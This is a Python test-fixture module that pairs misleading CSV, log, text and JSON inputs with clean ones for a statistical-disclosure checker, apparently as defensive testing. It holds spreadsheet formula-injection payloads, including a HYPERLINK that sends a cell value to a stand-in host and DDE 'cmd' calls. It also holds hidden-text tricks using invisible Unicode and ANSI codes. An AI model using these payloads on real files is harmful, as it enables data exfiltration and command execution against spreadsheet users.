"""Delimited files, logs and other texts that mislead their reader, each beside an innocent one."""

CLEAN = "Age band,Surgery,No surgery,Total\n<50,24,31,55\n50-64,45,52,97\n65-79,61,44,105\n80+,29,37,66\nTotal,159,164,323\n"
SMALL = CLEAN.replace("80+,29,37,66", "80+,3,37,40").replace("Total,159,164,323", "Total,133,164,297")
LISTING = "nhs_number,age,stage\n9434765919,71,III\n4010232137,64,II\n9876543210,58,IV\n"


def with_label(label):
    return CLEAN.replace("65-79", label)


def cases(add):
    def csv(name, hostile, verdict, rule, where, says, clean=CLEAN, clean_verdict="PASS"):
        add(name, "csv", hostile, clean, verdict, rule, where, says, clean_verdict)

    signed = "Age band,Patients,Percent,Change in percent\n<50,24,15.1,-3.2\n50-64,45,28.3,+1.4\n65-79,61,38.4,-0.7\n80+,29,18.2,+2.5\n"
    csv("csv-formula-outside", CLEAN.replace("80+,29", '80+,"=HYPERLINK(""http://x.example/?n=""&B2,""29"")"'), "FAIL", "FILE-009", "B5", "reaches outside", signed)
    csv("csv-formula-dde", CLEAN.replace("80+,29", "80+,=cmd|'/c calc'!A0"), "FAIL", "FILE-009", "B5", "reaches outside", signed)
    csv("csv-formula", CLEAN.replace("80+,29", "80+,@SUM(B2:B4)"), "FAIL", "FILE-009", "B5", "computes", signed)
    csv("csv-formula-after-tab", CLEAN.replace("80+,29", '80+,"\t=SUM(B2:B4)"'), "FAIL", "FILE-009", "B5", "computes", signed)
    csv("csv-formula-after-return", CLEAN.replace("80+,29", '80+,"\r=SUM(B2:B4)"'), "FAIL", "FILE-009", "B5", "computes", signed)
    csv("csv-formula-plus", CLEAN.replace("80+,29", "80+,+SUM(B2:B4)"), "FAIL", "FILE-009", "B5", "computes", signed)
    csv("csv-formula-minus", CLEAN.replace("80+,29", "80+,-SUM(B2:B4)"), "FAIL", "FILE-009", "B5", "computes", signed)
    csv("csv-formula-of-signs", CLEAN.replace("80+,29", "80+,-3+cmd|'/c calc'!A0"), "FAIL", "FILE-009", "B5", "reaches outside", signed)
    csv("csv-nul", SMALL.replace("24", "2\0004"), "FAIL", "FILE-001", "", "binary")
    csv("csv-ragged", SMALL.replace("45,52,97", "45,52,97,3"), "FAIL", "FREQ-001", "B5", "")
    csv("csv-mixed-delimiters", SMALL.replace("80+,3,37,40", "80+;3;37;40"), "FAIL", "FREQ-001", "B5", "")
    csv("csv-second-table", CLEAN + "\nSex,Surgery,No surgery,Total\nFemale,3,79,82\nMale,156,85,241\nTotal,159,164,323\n", "FAIL", "FREQ-001", "B9", "")
    csv("csv-table-in-a-cell", CLEAN.replace("80+,", '"' + LISTING + '",'), "FAIL", "ID-001", "A5", "")
    csv("csv-two-encodings", CLEAN.replace("80+", "Åge").encode("utf-8") + "Größe,24,31,55\n".encode("latin-1") + "Åse,24,31,55\n".encode("utf-8"), "REVIEW", "UND-001", "@7:1", "not all in UTF-8", CLEAN.replace("80+", "Åge"))
    csv("csv-mixed-delimiters-beside-ragged", SMALL.replace("80+,3,37,40", "80+;3;37;40").replace("45,52,97", "45,52,97,,x"), "FAIL", "FREQ-001", "B5", "", CLEAN)
    csv("csv-titled-table-in-a-cell", CLEAN.replace("80+,", '"Patients of the registry\n' + LISTING + '",'), "FAIL", "ID-001", "A5", "")
    csv("csv-number-without-room", CLEAN.replace("37", "1e999999999"), "REVIEW", "UND-001", "", "")
    turned = CLEAN.encode("utf-16-le") + "80+,3".encode("utf-16-be") + b"\n\0"
    csv("csv-utf-16-turned", b"\xff\xfe" + turned, "REVIEW", "UND-001", "", "", CLEAN.encode("utf-16"))
    csv("csv-utf-16", SMALL.encode("utf-16"), "FAIL", "FREQ-001", "B5", "", CLEAN.encode("utf-16"))
    csv("csv-decimal-comma", SMALL.replace(",", ";"), "FAIL", "FREQ-001", "B5", "", CLEAN.replace(",", ";"))
    csv("csv-ansi", CLEAN.replace("80+", "80+\x1b[8m really 3\x1b[0m"), "FAIL", "FILE-004", "A5", "terminal")
    csv("csv-backspace", CLEAN.replace("80+", "three of them" + "\b" * 13 + "80+          "), "FAIL", "FILE-004", "A5", "control")
    csv("invisible-zero-width", with_label("65\u200b-79\u200d"), "REVIEW", "FILE-004", "A4", "U+200B")
    csv("invisible-filler", with_label("65\u316479"), "REVIEW", "FILE-004", "A4", "U+3164")
    csv("invisible-braille", with_label("65-\u280079"), "REVIEW", "FILE-004", "A4", "U+2800")
    csv("invisible-end-of-line", with_label("65-\u202879"), "REVIEW", "FILE-004", "A4", "U+2028")
    csv("invisible-bidi", with_label("65-\u202e97\u202c"), "REVIEW", "FILE-004", "A4", "U+202E")
    csv("invisible-tags", with_label("65-79" + "".join(chr(0xE0000 + ord(c)) for c in "9434765919")), "REVIEW", "FILE-004", "A4", "U+E0039")
    csv("invisible-variation-selectors", with_label("65-79" + "".join(chr(0xE0100 + 16 + ord(c)) for c in "9434765919")), "REVIEW", "FILE-004", "A4", "U+E0149")
    csv("mixed-script", with_label("Tot\u0430l"), "REVIEW", "FILE-004", "A4", "U+0430", with_label("Größe µm Δ"))
    csv("mean-beside-suppressed-n", "Age band,Mean visits,n\n<50,2.4,24\n50-64,3.1,45\n65-79,4.0,61\n80+,2.3333333,<10\n", "FAIL", "MAG-001", "B5", "", "Age band,Mean visits,n\n<50,2.4,24\n50-64,3.1,45\n65-79,4.0,61\n80+,2.3,29\n", "REVIEW")

    text = "The cohort had 323 patients.\nOf these, 159 had surgery and 164 had none.\n"
    add("log-with-listing", "log", "> head(patients)\n  nhs_number age stage\n1 9434765919  71   III\n2 4010232137  64    II\n3 9876543210  58    IV\n", text, "FAIL", "REC-001", "", "", "PASS")
    add("log-ansi", "log", text + "\x1b[8mthe 80+ group had 3 deaths\x1b[0m\n", text, "FAIL", "FILE-004", "@3:1", "terminal")
    add("text-zero-width", "txt", text.replace("cohort", "co\u200bhort"), text, "REVIEW", "FILE-004", "@1:7", "U+200B")
    add("text-two-encodings", "txt", "Größe: über allem. Ähnlich für Männer: größer.\n".encode("cp1252") + text.replace("cohort", "co\u200bhort").encode("utf-8"), ("Größe: über allem. Ähnlich für Männer: größer.\n" + text).encode("cp1252"), "REVIEW", "UND-001", "@2:1", "not all in")
    add("text-blank-line", "txt", text + "\u2028\u3164\nThen 3 women died.\n", text + "\nThen 31 women died.\n", "FAIL", "FREQ-005", "@4:6", "")
    add("log-open-interval", "log", "age: 1.02 (0.98, )\nThen 3 women died.\n" + text, "age: 1.02 (0.98, )\n" + text, "FAIL", "FREQ-005", "", "", "REVIEW")
    add("markdown-comment", "md", "# Results\n\n<!-- NHS 943 476 5919 was one of the 3 -->\n" + text, "# Results\n\n" + text, "FAIL", "ID-001", "@3:10", "")
    add("latex-comment", "tex", text + "% the 80+ group had 3 deaths\n", text, "FAIL", "FREQ-005", "@3:21", "")
    add("json-number-without-room", "json", '{"group": ["<50", "50-64"], "n": [24, 1e2147483648]}\n', '{"group": ["<50", "50-64"], "n": [24, 45]}\n', "REVIEW", "UND-001", "", "")
    add("json-zero-width", "json", '{"group": ["<50", "50\u200b-64"], "n": [24, 45]}\n', '{"group": ["<50", "50-64"], "n": [24, 45]}\n', "REVIEW", "FILE-004", "", "U+200B")
